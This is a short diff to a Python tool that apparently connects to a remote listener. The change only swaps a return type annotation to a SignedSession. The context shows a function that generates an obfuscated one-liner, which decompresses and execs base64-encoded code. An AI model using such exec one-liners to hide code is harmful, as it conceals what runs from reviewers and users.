@@ -41,7 +41,7 @@ def one_line() -> str:
     return f'import base64, zlib; exec(zlib.decompress(base64.b64decode("{text}")))'
 
 
-def dial(told: Message, host: str) -> tuple[socket.socket, handshake.Session]:
+def dial(told: Message, host: str) -> tuple[socket.socket, handshake.SignedSession]:
     """Connect to the listener.
 
     Raises:
